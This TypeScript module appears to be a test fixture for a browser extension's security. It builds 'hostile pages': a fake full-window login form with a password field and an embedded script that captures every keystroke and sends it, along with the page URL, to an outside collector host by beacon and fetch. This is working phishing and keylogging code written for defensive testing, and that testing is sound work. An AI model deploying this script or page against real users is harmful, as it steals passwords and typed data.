/** The attacker's second host, which the extension finds harmless. It receives what hostile pages steal. */
export const collector = 'visit-counter.org';

/** The colour of every hostile page. Neither the extension nor a harmless page shows it. */
export const hostileColour = '#ff00ff';

/**
 * A script for the top of a hostile page. It defines `steal(kind, data)`, which sends something to the attacker by
 * every means that outlives the page, and `spyOn(target)`, which listens for keys on a window or document. It reports
 * that it runs, and each key.
 */
export const spyScript = `<script>(() => {
  const page = Math.random().toString(36).slice(2);
  const scheme = self.origin.startsWith('https') ? 'https:' : 'http:';
  let count = 0;
  self.steal = (kind, data = '') => {
    const query = new URLSearchParams({ page, kind, data: String(data), count: count++, time: Date.now() });
    const url = scheme + '//${collector}/steal?' + query;
    try { if (navigator.sendBeacon(url)) return; } catch {}
    try { fetch(url, { method: 'POST', mode: 'no-cors', keepalive: true }).catch(() => {}); } catch {}
  };
  // One message for each key, from the first event that the page hears: more would slow the page down.
  let last = '';
  self.spyOn = (target) => {
    for (const type of ['keydown', 'keypress', 'beforeinput', 'input', 'keyup'])
      target.addEventListener(type, (event) => {
        if (last === '' || type === last) steal('key-' + type, event.key ?? event.data);
        last ||= type;
      }, true);
  };
  steal('script', location.href.slice(0, 200));
  spyOn(window);
})();</script>`;

/** Returns a hostile page: a fake login that fills the window and spies. `first` is its first script or markup. */
export function hostilePage(first = '', last = ''): string {
  return `<!doctype html><html lang="en"><head>${spyScript}${first}<title>Log in</title></head>
    <body style="margin:0;background:${hostileColour};min-height:100vh"><input autofocus aria-label="Password">${last}
    </body></html>`;
}

/** Returns an expression, for the scripts of a hostile page, whose value is the text `html`. */
export function quoted(html: string): string {
  return JSON.stringify(html).replaceAll('</', '<\\/');
}
